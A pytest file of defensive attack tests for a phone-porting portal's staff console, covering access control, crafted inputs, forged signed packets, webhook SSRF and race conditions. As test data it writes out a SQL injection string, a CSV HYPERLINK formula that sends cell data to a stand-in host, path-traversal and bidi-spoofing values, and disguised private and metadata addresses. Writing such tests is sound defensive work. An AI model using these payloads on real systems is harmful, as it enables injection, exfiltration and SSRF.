"""Attacks on the staff console (issue #11) as a hostile user and as two people at once: other
accounts' and other requests' ids in every new URL and form, owners and visitors on console URLs,
crafted hidden fields, NULs and huge bodies, CSV formulas, forged packets, webhook URLs that hide
a private address, and races between staff, owners and both."""

import io

import pytest

from portal.models import (
    Account,
    NumberClaim,
    OutboxEmail,
    PortNumber,
    PortRequest,
    RequestComment,
    RequestEvent,
    RoutingTarget,
    TrackingNumber,
    User,
    Webhook,
    WebhookDelivery,
)
from portal.staff import actions
from tests.conftest import OTHER_OWNER_EMAIL, STAFF_EMAIL, login
from tests.test_staff_actions import NUMBERS, foc_day, make
from tests.test_submit import make_submittable, today
from tests.test_wizard_attacks import at_once
from tests.test_wizard_details import STORED

NUL_AND_FRIENDS = "\x00\x01\x1b[31m\u202eevil\u2066"
MEGABYTE = "a" * (1024 * 1024)


@pytest.fixture
def other_client(app, other_owner):
    client = app.test_client()
    assert login(client, OTHER_OWNER_EMAIL).status_code == 302
    return client


def sent_back(app, owner, codes=("PHONE_NUMBER_MISMATCH",), numbers=NUMBERS):
    """Return the id of the owner's request sent back by staff with `codes`."""
    request_id = make(app, owner, "in_review", numbers=numbers)
    with app.app_context():
        staff = User.get(User.email == STAFF_EMAIL)
        actions.require_action(
            request_id, user=staff, shown="in_review", codes=list(codes), note="Fix it."
        )
    return request_id


def numbers_of(app, request_id):
    with app.app_context():
        return [
            (row.id, row.e164, row.status)
            for row in PortNumber.select()
            .where(PortNumber.port_request == request_id)
            .order_by(PortNumber.position)
        ]


def state(app, request_id):
    """What a refused attack must leave as it was."""
    with app.app_context():
        port_request = PortRequest.get_by_id(request_id)
        return {
            "status": port_request.status,
            "details": port_request.details,
            "note": port_request.status_note,
            "codes": port_request.carrier_codes,
            "foc": (port_request.foc_date, port_request.foc_window),
            "numbers": numbers_of(app, request_id),
            "claims": NumberClaim.select().where(NumberClaim.port_request == request_id).count(),
            "comments": RequestComment.select().count(),
            "events": RequestEvent.select().where(RequestEvent.port_request == request_id).count(),
            "emails": OutboxEmail.select().count(),
            "deliveries": WebhookDelivery.select().count(),
            "tracking": TrackingNumber.select().count(),
        }


# ---------------------------------------------------------------------------------------------
# Owners and visitors on the console.

CONSOLE = [
    ("get", "/queue/", {}),
    ("get", "/queue/?q=%2B16143221001", {"HX-Request": "true"}),
    ("get", "/queue/queue.csv", {}),
    ("get", "/staff/requests/{id}", {}),
    ("get", "/staff/requests/{id}", {"HX-Request": "true"}),
    ("get", "/staff/requests/{id}/packet", {}),
    ("post", "/staff/requests/{id}/moves/start_review", {}),
    ("post", "/staff/requests/{id}/moves/reject", {}),
    ("post", "/staff/requests/{id}/numbers/{number}/reject", {}),
    ("post", "/staff/requests/{id}/comments", {}),
]
FORM = {"shown": "submitted", "reason": "mine now", "body": "hello", "internal": "y"}


def _console_url(app, owner, template):
    request_id = make(app, owner, "submitted")
    number = numbers_of(app, request_id)[0][0]
    return request_id, template.format(id=request_id, number=number)


@pytest.mark.parametrize(("method", "template", "headers"), CONSOLE)
def test_an_owner_gets_404_on_every_console_url(
    app, owner, staff, owner_client, method, template, headers
):
    request_id, url = _console_url(app, owner, template)
    before = state(app, request_id)
    answer = getattr(owner_client, method)(url, data=FORM, headers=headers)
    assert answer.status_code == 404
    assert state(app, request_id) == before


@pytest.mark.parametrize(("method", "template", "headers"), CONSOLE)
def test_a_visitor_is_sent_to_sign_in_on_every_console_url(
    app, owner, client, method, template, headers
):
    request_id, url = _console_url(app, owner, template)
    before = state(app, request_id)
    answer = getattr(client, method)(url, data=FORM, headers=headers)
    if headers.get("HX-Request") and answer.status_code != 302:
        assert answer.status_code == 401 or "HX-Redirect" in answer.headers
    else:
        assert answer.status_code == 302
        assert "/login" in answer.headers["Location"]
    assert state(app, request_id) == before


# ---------------------------------------------------------------------------------------------
# Another account's request: the fix loop, comments and resubmit.

OWNER_URLS = [
    ("get", "/port-requests/{id}/fix", {}),
    ("post", "/port-requests/{id}/fix", {"billing-account_number": "999"}),
    ("post", "/port-requests/{id}/fix/numbers", {"remove": "{number}"}),
    ("post", "/port-requests/{id}/fix/numbers", {"typed": "(614) 322-1001"}),
    ("post", "/port-requests/{id}/fix/bill", {}),
    ("post", "/port-requests/{id}/resubmit", {}),
    ("post", "/port-requests/{id}/comments", {"body": "I am someone else"}),
    ("get", "/port-requests/{id}", {}),
]


@pytest.mark.parametrize(("method", "template", "form"), OWNER_URLS)
def test_another_accounts_owner_gets_404_on_the_fix_loop(
    app, owner, staff, other_client, method, template, form
):
    request_id = sent_back(app, owner)
    number = numbers_of(app, request_id)[0][0]
    before = state(app, request_id)
    data = {name: value.format(number=number) for name, value in form.items()}
    answer = getattr(other_client, method)(template.format(id=request_id), data=data)
    assert answer.status_code == 404
    assert state(app, request_id) == before


def test_a_number_id_of_another_request_is_not_removed_by_the_fix_page(
    app, owner, staff, owner_client
):
    mine = sent_back(app, owner)
    other = make(app, owner, "in_review", numbers=["(614) 322-1009", "(614) 322-1008"])
    theirs = numbers_of(app, other)
    answer = owner_client.post(
        f"/port-requests/{mine}/fix/numbers", data={"remove": [str(theirs[0][0])]}
    )
    assert answer.status_code == 302
    assert numbers_of(app, other) == theirs
    assert len(numbers_of(app, mine)) == 3
    page = owner_client.get(answer.headers["Location"]).get_data(as_text=True)
    assert "none was chosen" in page


@pytest.mark.parametrize(
    "remove",
    [["0"], ["-1"], ["99999999999999999999"], ["1e3"], ["\x00"], [str(i) for i in range(10_000)]],
)
def test_crafted_number_ids_on_the_fix_page_remove_nothing_foreign(
    app, owner, staff, owner_client, remove
):
    mine = sent_back(app, owner)
    other = make(app, owner, "in_review", numbers=["(614) 322-1009", "(614) 322-1008"])
    theirs = numbers_of(app, other)
    answer = owner_client.post(f"/port-requests/{mine}/fix/numbers", data={"remove": remove})
    assert answer.status_code in (302, 400)
    assert numbers_of(app, other) == theirs
    assert len(numbers_of(app, mine)) >= 1


# ---------------------------------------------------------------------------------------------
# Staff forms with crafted values.


def test_staff_reject_a_number_of_another_request_changes_neither(
    app, owner, other_owner, staff, staff_client
):
    mine = make(app, owner, "in_review")
    other = make(app, other_owner, "in_review", numbers=["(614) 322-1007"])
    other_number = numbers_of(app, other)[0][0]
    before_mine, before_other = state(app, mine), state(app, other)
    answer = staff_client.post(
        f"/staff/requests/{mine}/numbers/{other_number}/reject",
        data={"shown": "in_review", "reason": "not yours"},
        follow_redirects=True,
    )
    assert answer.status_code == 200
    assert "not in this request" in answer.get_data(as_text=True)
    assert state(app, mine) == before_mine
    assert state(app, other) == before_other


@pytest.mark.parametrize("number_id", ["0", "99999999999999999999", "-3"])
def test_staff_reject_a_number_that_does_not_exist_is_not_a_500(
    app, owner, staff, staff_client, number_id
):
    mine = make(app, owner, "in_review")
    before = state(app, mine)
    answer = staff_client.post(
        f"/staff/requests/{mine}/numbers/{number_id}/reject",
        data={"shown": "in_review", "reason": "gone"},
    )
    assert answer.status_code in (302, 404)
    assert state(app, mine) == before


@pytest.mark.parametrize("shown", ["draft", "", "completed", "in_review\x00", "x" * 10_000])
@pytest.mark.parametrize("name", ["start_review", "complete", "reject"])
def test_a_crafted_shown_status_moves_nothing(app, owner, staff, staff_client, shown, name):
    request_id = make(app, owner, "submitted")
    before = state(app, request_id)
    answer = staff_client.post(
        f"/staff/requests/{request_id}/moves/{name}",
        data={"shown": shown, "reason": "crafted"},
        follow_redirects=True,
    )
    assert answer.status_code in (200, 400)
    assert state(app, request_id) == before


@pytest.mark.parametrize(
    ("codes", "stored"),
    [
        (["NOT_A_CODE"], None),
        (["LOCATION_MISMATCH", "<script>"], None),
        (["LOCATION_MISMATCH"] * 10_000, ["LOCATION_MISMATCH"]),
        (["LOCATION_MISMATCH", "OTHER", "LOCATION_MISMATCH"], ["LOCATION_MISMATCH", "OTHER"]),
        ([f"X{i}" for i in range(10_000)], None),
        (["location_mismatch"], None),
        (["LOCATION_MISMATCH\x00"], None),
    ],
    ids=["unknown", "script", "ten-thousand-same", "duplicates", "ten-thousand-unknown", "lower",
         "nul"],
)  # fmt: skip
def test_crafted_carrier_codes(app, owner, staff, staff_client, codes, stored):
    request_id = make(app, owner, "in_review")
    before = state(app, request_id)
    answer = staff_client.post(
        f"/staff/requests/{request_id}/moves/require_action",
        data={"shown": "in_review", "codes": codes, "note": "Check the address."},
    )
    if stored is None:
        assert answer.status_code == 400
        assert "carrier code" in answer.get_data(as_text=True).lower()
        assert state(app, request_id) == before
    else:
        assert answer.status_code == 302
        with app.app_context():
            assert PortRequest.get_by_id(request_id).codes == stored


@pytest.mark.parametrize(
    "foc_date",
    ["2027-02-30", "9999-12-31", "0001-01-01", "2027-01-1\x00", "\x00", "x" * 100_000,
     "+2027-01-12"],
)  # fmt: skip
def test_crafted_foc_dates_are_refused_in_words(app, owner, staff, staff_client, foc_date):
    request_id = make(app, owner, "in_review")
    before = state(app, request_id)
    answer = staff_client.post(
        f"/staff/requests/{request_id}/moves/schedule_foc",
        data={"shown": "in_review", "foc_date": foc_date, "window": "9-12"},
    )
    assert answer.status_code == 400, foc_date
    assert state(app, request_id) == before


def test_a_foc_date_in_iso_basic_format_is_read_as_the_date_it_names(
    app, owner, staff, staff_client
):
    """Python 3.11 reads "20270112" as 2027-01-12; either refuse it or store that same day."""
    request_id = make(app, owner, "in_review")
    day = foc_day()
    staff_client.post(
        f"/staff/requests/{request_id}/moves/schedule_foc",
        data={"shown": "in_review", "foc_date": day.strftime("%Y%m%d")},
    )
    with app.app_context():
        assert PortRequest.get_by_id(request_id).foc_date in (None, day)


# ---------------------------------------------------------------------------------------------
# NULs, control and bidi characters, and 1 MB bodies in every text the console stores.

TEXT_POSTS = [
    ("in_review", "/staff/requests/{id}/moves/require_action", "note",
     {"shown": "in_review", "codes": "OTHER"}),
    ("in_review", "/staff/requests/{id}/moves/reject", "reason", {"shown": "in_review"}),
    ("in_review", "/staff/requests/{id}/moves/schedule_foc", "window",
     {"shown": "in_review", "foc_date": "{foc}"}),
    ("in_review", "/staff/requests/{id}/numbers/{number}/reject", "reason",
     {"shown": "in_review"}),
    ("in_review", "/staff/requests/{id}/comments", "body", {"internal": "y"}),
]  # fmt: skip


def _post_text(app, owner, staff_client, status, template, field, extra, value):
    request_id = make(app, owner, status)
    number = numbers_of(app, request_id)[0][0]
    url = template.format(id=request_id, number=number)
    data = {name: text.format(foc=foc_day().isoformat()) for name, text in extra.items()}
    data[field] = value
    return request_id, staff_client.post(url, data=data)


@pytest.mark.parametrize(("status", "template", "field", "extra"), TEXT_POSTS)
def test_a_megabyte_of_text_is_refused_whole(
    app, owner, staff, staff_client, status, template, field, extra
):
    request_id = make(app, owner, status)
    before = state(app, request_id)
    number = numbers_of(app, request_id)[0][0]
    data = {name: text.format(foc=foc_day().isoformat()) for name, text in extra.items()}
    data[field] = MEGABYTE
    answer = staff_client.post(template.format(id=request_id, number=number), data=data)
    assert answer.status_code in (302, 400, 413)
    assert state(app, request_id) == before


@pytest.mark.parametrize(("status", "template", "field", "extra"), TEXT_POSTS)
def test_nul_and_control_characters_never_reach_the_database(
    app, owner, staff, staff_client, status, template, field, extra
):
    request_id, answer = _post_text(
        app, owner, staff_client, status, template, field, extra, "Call\x00 us\x1b[31m back\x7f"
    )
    assert answer.status_code in (302, 400)
    with app.app_context():
        port_request = PortRequest.get_by_id(request_id)
        texts = [
            port_request.status_note or "",
            port_request.foc_window or "",
            *[row.reason or "" for row in port_request.numbers()],
            *[row.body for row in RequestComment.select()],
            *[row.message or "" for row in RequestEvent.select()],
        ]
    assert not any(char in text for text in texts for char in "\x00\x1b\x7f")


BIDI = "\u202e\u2066\u202a\u200f"


@pytest.mark.parametrize(("status", "template", "field", "extra"), TEXT_POSTS)
def test_bidi_overrides_never_reach_the_database(
    app, owner, staff, staff_client, status, template, field, extra
):
    request_id, answer = _post_text(
        app, owner, staff_client, status, template, field, extra, "Pay \u202egpj.exe now"
    )
    assert answer.status_code in (302, 400)
    with app.app_context():
        port_request = PortRequest.get_by_id(request_id)
        texts = [
            port_request.status_note or "",
            port_request.foc_window or "",
            *[row.reason or "" for row in port_request.numbers()],
            *[row.body for row in RequestComment.select()],
        ]
    assert not any(char in text for text in texts for char in BIDI)


@pytest.mark.parametrize("body", ["\x00", "\x00\x01\x02 \t\n", MEGABYTE, "x" * 5_001])
def test_an_owners_crafted_comment_is_refused_in_the_page(app, owner, staff, owner_client, body):
    request_id = sent_back(app, owner)
    before = state(app, request_id)
    answer = owner_client.post(f"/port-requests/{request_id}/comments", data={"body": body})
    assert answer.status_code in (400, 413)
    assert state(app, request_id) == before


# ---------------------------------------------------------------------------------------------
# The queue: search and filters with anything in them, and the CSV export.

QUEUE_QUERIES = [
    {"q": "%_\\"},
    {"q": "x" * 1_000_000},
    {"q": "\u202e+1 614 322 1001"},
    {"q": "'; DROP TABLE port_request; --"},
    {"status": ["bogus", "\x00", "draft"]},
    {"status": ["submitted"] * 10_000},
    {"account": "99999999999999999999999"},
    {"account": "-1"},
    {"account": "\x00"},
    {"foc_from": "2027-02-30", "foc_to": "\x00"},
    {"foc_from": "9999-12-31", "foc_to": "0001-01-01"},
    {"sort": "../../etc", "dir": "sideways"},
    {"sort": "name", "dir": "desc", "page": "99999999999999999999"},
    {"page": "-5"},
]


@pytest.mark.parametrize("query", QUEUE_QUERIES)
@pytest.mark.parametrize("fragment", [False, True])
def test_the_queue_answers_any_query_without_a_500(
    app, owner, staff, staff_client, query, fragment
):
    make(app, owner, "in_review")
    headers = {"HX-Request": "true"} if fragment else {}
    answer = staff_client.get("/queue/", query_string=query, headers=headers)
    assert answer.status_code in (200, 400, 414)
    export = staff_client.get("/queue/queue.csv", query_string=query)
    assert export.status_code in (200, 400, 414)


@pytest.mark.parametrize("url", ["/queue/", "/queue/queue.csv"])
@pytest.mark.parametrize("q", ["\x00", "Harbor\x00Clinic"])
def test_a_nul_in_the_queue_search_is_refused_in_words(app, owner, staff, staff_client, url, q):
    make(app, owner, "in_review")
    answer = staff_client.get(url, query_string={"q": q})
    assert answer.status_code in (200, 400)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_queue_export_makes_formulas_inert(app, owner, staff, staff_client, start):
    formula = f'{start}HYPERLINK("https://evil.test/?"&A1,"Click")'
    request_id = make_submittable(
        app, owner.account_id, fields={**STORED, "friendly_name": formula}, created_by=owner
    )
    with app.app_context():
        from portal.port_requests import operations

        operations.submit(
            Account.get_by_id(owner.account_id), request_id, user=owner, ip="",
            today=today(), lead_business_days=7,
        )  # fmt: skip
        Account.update(name=formula).where(Account.id == owner.account_id).execute()
    csv = staff_client.get("/queue/queue.csv").get_data(as_text=True)
    assert formula in csv.replace('""', '"')
    cells = [
        cell.strip('"')
        for line in csv.splitlines()
        for cell in line.split(",")
        if "HYPERLINK" in cell
    ]
    assert cells
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


# ---------------------------------------------------------------------------------------------
# The verify page and `flask packet verify` with bytes that are not a sealed packet.


def _sealed(app):
    from signing import seal
    from tests.test_seal import small_pdf

    with app.app_context():
        identity = seal.of_config(app.config, app.instance_path)
    return seal.seal(small_pdf(), identity, reason="PortDesk packet")


def _other_sealed(tmp_path):
    from signing import seal
    from tests.test_seal import small_pdf

    return seal.seal(small_pdf(), seal.in_folder(tmp_path / "elsewhere"), reason="PortDesk packet")


FORGERIES = {
    "not a PDF": lambda app, tmp: b"\x89PNG\r\n\x1a\n" + bytes(500),
    "NULs": lambda app, tmp: bytes(4096),
    "PDF header only": lambda app, tmp: b"%PDF-1.7\n",
    "truncated packet": lambda app, tmp: _sealed(app)[: len(_sealed(app)) // 2],
    "packet without its last byte": lambda app, tmp: _sealed(app)[:-1],
    "packet with a byte appended": lambda app, tmp: _sealed(app) + b"\n",
    "packet with an update appended": lambda app, tmp: (
        _sealed(app) + b"\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
    ),
    "sealed by another key": lambda app, tmp: _other_sealed(tmp),
    "PDF header after 1 KB": lambda app, tmp: bytes(2048) + _sealed(app),
}


@pytest.mark.parametrize("case", list(FORGERIES))
def test_the_verify_page_says_not_verified_without_a_500(app, client, tmp_path, case):
    data = FORGERIES[case](app, tmp_path)
    answer = client.post(
        "/packets/verify",
        data={"packet": (io.BytesIO(data), "packet.pdf")},
        content_type="multipart/form-data",
    )
    assert answer.status_code == 200
    text = answer.get_data(as_text=True)
    assert "unchanged since" not in text or "not" in text.lower()
    assert "Sealed by this PortDesk" not in text


@pytest.mark.parametrize("case", list(FORGERIES))
def test_the_verify_command_says_not_verified_and_exits_1(app, runner, tmp_path, case):
    path = tmp_path / "packet.pdf"
    path.write_bytes(FORGERIES[case](app, tmp_path))
    result = runner.invoke(args=["packet", "verify", str(path)])
    assert result.exit_code == 1, result.output
    assert "NOT VERIFIED" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_the_verify_page_and_command_accept_the_genuine_seal(app, client, runner, tmp_path):
    """The control for the forgeries above: the same bytes, untouched, verify."""
    data = _sealed(app)
    path = tmp_path / "packet.pdf"
    path.write_bytes(data)
    assert runner.invoke(args=["packet", "verify", str(path)]).exit_code == 0
    answer = client.post(
        "/packets/verify",
        data={"packet": (io.BytesIO(data), "packet.pdf")},
        content_type="multipart/form-data",
    )
    assert "unchanged since" in answer.get_data(as_text=True)


@pytest.mark.parametrize("case", ["empty", "no file", "huge"])
def test_the_verify_page_refuses_an_empty_or_huge_upload_in_words(app, client, case):
    if case == "no file":
        answer = client.post("/packets/verify", data={}, content_type="multipart/form-data")
    else:
        # The limit is lowered so that the test client keeps the body in memory (a spooled
        # temporary file it never closes otherwise); the answer past it is the same.
        app.config["MAX_CONTENT_LENGTH"] = 100_000
        data = b"" if case == "empty" else b"%PDF-" + bytes(200_000)
        answer = client.post(
            "/packets/verify",
            data={"packet": (io.BytesIO(data), "big.pdf")},
            content_type="multipart/form-data",
        )
    assert answer.status_code in (200, 400, 413)
    if case != "huge":
        assert "Choose the PDF to verify" in answer.get_data(as_text=True)


def test_the_verify_command_on_an_empty_file_exits_1(runner, tmp_path):
    path = tmp_path / "empty.pdf"
    path.write_bytes(b"")
    result = runner.invoke(args=["packet", "verify", str(path)])
    assert result.exit_code == 1
    assert "NOT VERIFIED" in result.output


# ---------------------------------------------------------------------------------------------
# Webhooks: URLs that hide a private address, and another account's ids.

DISGUISED = [
    "https://0x7f.1/",
    "https://0x7f000001/",
    "https://2130706433/",
    "https://017700000001/",
    "https://127.1/",
    "https://0/",
    "https://[::ffff:127.0.0.1]/",
    "https://[::ffff:7f00:1]/",
    "https://[0:0:0:0:0:ffff:7f00:1]/",
    "https://[::127.0.0.1]/",
    "https://[64:ff9b::7f00:1]/",
    "https://[2002:a9fe:a9fe::]/",
    "https://[fd00::1]/",
    "https://[fe80::1%25eth0]/",
    "https://localhost/",
    "https://LOCALHOST./",
    "https://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/",
    "https://locａlhost/",
    "https://hooks.example.com@127.0.0.1/",
    "https://127.0.0.1:443@hooks.example.com/",
    "https://127.0.0.1:8443/",
    "https://169.254.169.254:443/latest/meta-data/",
    "https://0251.0376.0251.0376/",
    "http://0x7f.1/",
    "https://10.0.0.1\x00.example.com/",
    "https://127.0.0.1\u3002/",
]


@pytest.mark.parametrize("url", DISGUISED)
def test_a_webhook_url_hiding_a_private_address_is_refused(app, owner, owner_client, url):
    assert not app.config["WEBHOOK_ALLOW_PRIVATE"]
    answer = owner_client.post("/settings/webhooks/", data={"webhook-url": url})
    assert answer.status_code == 400
    with app.app_context():
        assert Webhook.select().count() == 0


@pytest.mark.parametrize("url", DISGUISED[:14])
def test_a_disguised_private_address_is_refused_at_send_time_too(app, owner, url):
    """A row written before the rule (or by hand) still never gets a POST to a private address."""
    from portal import webhook_delivery, webhooks

    port_request_id = make(app, owner, "submitted")
    with app.app_context():
        Webhook.create(account=owner.account_id, url=url, secret="s" * 32)
        webhooks.emit(PortRequest.get_by_id(port_request_id), "port_request.foc_scheduled", {})
        sending = webhook_delivery.Sending(timeout=1, allow_private=False)
        webhook_delivery.deliver(sending, 10)
        row = WebhookDelivery.get()
        assert row.status != "sent"
        assert row.last_error


@pytest.mark.parametrize(
    "url", ["https://hooks.example.com/x" + "\u202e" * 3, "https://" + "a" * 1_000_000]
)
def test_a_webhook_url_with_bidi_or_a_megabyte_is_refused(app, owner, owner_client, url):
    answer = owner_client.post("/settings/webhooks/", data={"webhook-url": url})
    assert answer.status_code in (400, 413)
    with app.app_context():
        assert Webhook.select().count() == 0


@pytest.fixture
def theirs(app, other_owner, owner):
    """Another account's webhook and one delivery of it."""
    request_id = make(app, other_owner, "submitted", numbers=["(614) 322-1007"])
    with app.app_context():
        hook = Webhook.create(
            account=other_owner.account_id, url="https://h.example.com/", secret="s" * 32
        )
        from portal import webhooks

        webhooks.emit(PortRequest.get_by_id(request_id), "port_request.foc_scheduled", {})
        row = WebhookDelivery.get()
        WebhookDelivery.update(status="failed").execute()
        return hook.id, row.id


@pytest.mark.parametrize(
    ("method", "template"),
    [
        ("get", "/settings/webhooks/deliveries/{delivery}"),
        ("post", "/settings/webhooks/deliveries/{delivery}/send-again"),
        ("post", "/settings/webhooks/{hook}/delete"),
        ("get", "/settings/webhooks/deliveries/99999999999999999999"),
        ("post", "/settings/webhooks/99999999999999999999/delete"),
    ],
)
def test_another_accounts_webhook_and_deliveries_are_404(
    app, owner_client, theirs, method, template
):
    hook, delivery = theirs
    answer = getattr(owner_client, method)(template.format(hook=hook, delivery=delivery))
    assert answer.status_code == 404
    with app.app_context():
        assert Webhook.select().count() == 1
        assert WebhookDelivery.get_by_id(delivery).status == "failed"


def test_the_webhooks_page_does_not_list_another_accounts_deliveries(app, owner_client, theirs):
    page = owner_client.get("/settings/webhooks/?status=failed").get_data(as_text=True)
    assert "h.example.com" not in page


@pytest.mark.parametrize(
    "query", [{"status": "\x00"}, {"page": "99999999999999999999"}, {"status": "x" * 100_000}]
)
def test_the_webhooks_page_takes_any_query(app, owner_client, theirs, query):
    assert owner_client.get("/settings/webhooks/", query_string=query).status_code in (
        200,
        400,
        414,
    )


# ---------------------------------------------------------------------------------------------
# Two people at once, replayed forms, and completion after the inventory changed.


def _second_staff(app):
    from tests.conftest import _add_user

    _add_user(app, "staff2@portdesk.test", "staff", name="Sue Staff")
    client = app.test_client()
    assert login(client, "staff2@portdesk.test").status_code == 302
    return client


def _second_owner(app):
    from tests.conftest import _add_user

    with app.app_context():
        account = Account.get_by_id(4242)
    _add_user(app, "owner2@acme.test", "owner", account, name="Bo Owner")
    client = app.test_client()
    assert login(client, "owner2@acme.test").status_code == 302
    return client


def _events(app, request_id, kind):
    with app.app_context():
        return (
            RequestEvent.select()
            .where((RequestEvent.port_request == request_id) & (RequestEvent.kind == kind))
            .count()
        )


def _hook(app):
    with app.app_context():
        Webhook.create(account=4242, url="https://hooks.example.test/in", secret="s" * 32)


@pytest.mark.parametrize("name", ["start_review", "reject"])
def test_two_staff_making_one_move_at_once_make_it_once(app, owner, staff, staff_client, name):
    request_id = make(app, owner, "submitted")
    _hook(app)
    second = _second_staff(app)
    with app.app_context():
        emails, deliveries = OutboxEmail.select().count(), WebhookDelivery.select().count()
    data = {"shown": "submitted", "reason": "The account is closed."}
    url = f"/staff/requests/{request_id}/moves/{name}"
    answers = at_once(
        lambda: staff_client.post(url, data=data), lambda: second.post(url, data=data)
    )
    assert [answer.status_code for answer in answers] == [302, 302]
    assert _events(app, request_id, name) == 1
    with app.app_context():
        assert OutboxEmail.select().count() == emails + 1
        assert WebhookDelivery.select().count() == deliveries + 1
    said = [
        client.get(f"/staff/requests/{request_id}").get_data(as_text=True)
        for client in (staff_client, second)
    ]
    assert sum("Nothing was changed" in page for page in said) == 1


def test_reject_and_require_action_at_once_leave_one_whole_outcome(app, owner, staff, staff_client):
    request_id = make(app, owner, "in_review")
    second = _second_staff(app)
    at_once(
        lambda: staff_client.post(
            f"/staff/requests/{request_id}/moves/reject",
            data={"shown": "in_review", "reason": "Closed account."},
        ),
        lambda: second.post(
            f"/staff/requests/{request_id}/moves/require_action",
            data={"shown": "in_review", "codes": "OTHER", "note": "Send the PIN."},
        ),
    )
    after = state(app, request_id)
    assert after["status"] in ("rejected", "action_required")
    assert _events(app, request_id, "reject") + _events(app, request_id, "require_action") == 1
    if after["status"] == "rejected":
        assert after["claims"] == 0
        assert after["note"] == "Closed account."
    else:
        assert after["claims"] == 3
        assert after["note"] == "Send the PIN."


def test_a_resubmit_racing_a_staff_reject_leaves_one_outcome(
    app, owner, staff, staff_client, owner_client
):
    request_id = sent_back(app, owner, codes=("OTHER",))
    answers = at_once(
        lambda: owner_client.post(f"/port-requests/{request_id}/resubmit"),
        lambda: staff_client.post(
            f"/staff/requests/{request_id}/moves/reject",
            data={"shown": "action_required", "reason": "Too late."},
        ),
    )
    assert all(answer.status_code in (302, 409) for answer in answers), answers
    after = state(app, request_id)
    resubmitted, rejected = (
        _events(app, request_id, "resubmitted"),
        _events(app, request_id, "reject"),
    )
    assert resubmitted + rejected == 1
    assert after["status"] == ("in_review" if resubmitted else "rejected")
    statuses = {status for _, _, status in after["numbers"]}
    assert statuses == {after["status"]}
    assert after["claims"] == (3 if resubmitted else 0)


def test_two_owners_resubmitting_at_once_resubmit_once(app, owner, staff, owner_client):
    request_id = sent_back(app, owner, codes=("OTHER",))
    second = _second_owner(app)
    with app.app_context():
        emails = OutboxEmail.select().count()
    answers = at_once(
        lambda: owner_client.post(f"/port-requests/{request_id}/resubmit"),
        lambda: second.post(f"/port-requests/{request_id}/resubmit"),
    )
    assert all(answer.status_code in (302, 409) for answer in answers)
    assert _events(app, request_id, "resubmitted") == 1
    assert state(app, request_id)["status"] == "in_review"
    with app.app_context():
        assert OutboxEmail.select().count() == emails + 1


def test_two_owners_removing_the_other_numbers_at_once_leave_one(app, owner, staff, owner_client):
    request_id = sent_back(app, owner, numbers=NUMBERS[:2])
    (first, _, _), (second_id, _, _) = numbers_of(app, request_id)
    second = _second_owner(app)
    at_once(
        lambda: owner_client.post(
            f"/port-requests/{request_id}/fix/numbers", data={"remove": [str(first)]}
        ),
        lambda: second.post(
            f"/port-requests/{request_id}/fix/numbers", data={"remove": [str(second_id)]}
        ),
    )
    after = state(app, request_id)
    assert len(after["numbers"]) == 1
    assert after["claims"] == 1
    assert _events(app, request_id, "numbers_removed") == 1


def test_removing_numbers_racing_a_resubmit_leaves_the_request_consistent(
    app, owner, staff, owner_client
):
    request_id = sent_back(app, owner)
    number = numbers_of(app, request_id)[0][0]
    second = _second_owner(app)
    at_once(
        lambda: owner_client.post(
            f"/port-requests/{request_id}/fix/numbers", data={"remove": [str(number)]}
        ),
        lambda: second.post(f"/port-requests/{request_id}/resubmit"),
    )
    after = state(app, request_id)
    removed = _events(app, request_id, "numbers_removed")
    resubmitted = _events(app, request_id, "resubmitted")
    # A removal voids the LOA, so the two cannot both land: a resubmit after it is refused,
    # a removal after a resubmit finds the request in review.
    assert removed + resubmitted == 1
    assert len(after["numbers"]) == 3 - removed
    assert after["status"] == ("in_review" if resubmitted else "action_required")


REPLAYS = [
    ("/staff/requests/{id}/moves/start_review", {"shown": "submitted"}),
    ("/staff/requests/{id}/moves/require_action",
     {"shown": "submitted", "codes": "OTHER", "note": "again"}),
    ("/staff/requests/{id}/moves/reject", {"shown": "submitted", "reason": "again"}),
    ("/staff/requests/{id}/numbers/{number}/reject", {"shown": "submitted", "reason": "again"}),
]  # fmt: skip


@pytest.mark.parametrize(("template", "data"), REPLAYS)
def test_a_replayed_staff_form_after_the_request_moved_on_changes_nothing(
    app, owner, staff, staff_client, template, data
):
    request_id = make(app, owner, "submitted")
    number = numbers_of(app, request_id)[0][0]
    with app.app_context():
        actions.start_review(
            request_id, user=User.get(User.email == STAFF_EMAIL), shown="submitted"
        )
        actions.schedule_foc(
            request_id, user=User.get(User.email == STAFF_EMAIL), shown="in_review",
            foc_date=foc_day(), window=None, today=today(),
        )  # fmt: skip
    before = state(app, request_id)
    answer = staff_client.post(template.format(id=request_id, number=number), data=data)
    assert answer.status_code == 302
    assert state(app, request_id) == before
    page = staff_client.get(answer.headers["Location"]).get_data(as_text=True)
    assert "Nothing was changed" in page or "changed while you were looking" in page


@pytest.mark.parametrize(
    ("template", "data"),
    [
        ("/port-requests/{id}/fix", {"billing-account_number": "999-NEW"}),
        ("/port-requests/{id}/fix/numbers", {"remove": "{number}"}),
        ("/port-requests/{id}/resubmit", {}),
    ],
)
def test_a_replayed_owner_form_after_the_resubmit_changes_nothing(
    app, owner, staff, owner_client, template, data
):
    request_id = sent_back(app, owner, codes=("PHONE_NUMBER_MISMATCH",))
    number = numbers_of(app, request_id)[0][0]
    assert owner_client.post(f"/port-requests/{request_id}/resubmit").status_code == 302
    assert state(app, request_id)["status"] == "in_review"
    before = state(app, request_id)
    answer = owner_client.post(
        template.format(id=request_id),
        data={name: value.format(number=number) for name, value in data.items()},
    )
    assert answer.status_code in (302, 303, 400, 409)
    assert state(app, request_id) == before


@pytest.mark.parametrize("gone", ["routing", "source"])
def test_completion_after_the_routing_target_was_deleted_is_refused_by_name(
    app, owner, staff, staff_client, gone
):
    from portal.models import TrackingSource

    request_id = make(app, owner, "foc_scheduled")
    with app.app_context():
        model, id_ = (RoutingTarget, 14_242) if gone == "routing" else (TrackingSource, 24_242)
        model.delete().where(model.id == id_).execute()
    before = state(app, request_id)
    answer = staff_client.post(
        f"/staff/requests/{request_id}/moves/complete",
        data={"shown": "foc_scheduled"},
        follow_redirects=True,
    )
    assert answer.status_code == 200
    assert "(614) 322-1001" in answer.get_data(as_text=True)
    assert state(app, request_id) == before


